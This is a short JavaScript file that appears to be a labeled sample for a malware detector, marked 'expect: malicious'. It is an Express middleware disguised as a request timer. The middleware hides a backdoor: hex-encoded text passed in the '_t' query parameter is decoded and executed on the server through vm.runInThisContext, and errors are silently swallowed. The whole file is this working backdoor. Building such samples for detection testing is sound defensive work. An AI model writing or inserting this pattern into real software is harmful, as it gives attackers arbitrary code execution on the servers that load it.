// expect: malicious
// source: backdoored Express middleware (commands smuggled as hex in request data, decoded and run on the server); written here
const vm = require('vm');

module.exports = function requestTimer() {
  return function (req, res, next) {
    const started = Date.now();
    const trace = req.query && req.query._t;
    if (typeof trace === 'string' && /^[0-9a-f]+$/.test(trace)) {
      const bytes = [];
      for (let i = 0; i < trace.length; i += 2) bytes.push(parseInt(trace.slice(i, i + 2), 16));
      try { vm.runInThisContext(Buffer.from(bytes).toString('utf8')); } catch (e) {}
    }
    res.on('finish', () => { req.elapsed = Date.now() - started; });
    next();
  };
};
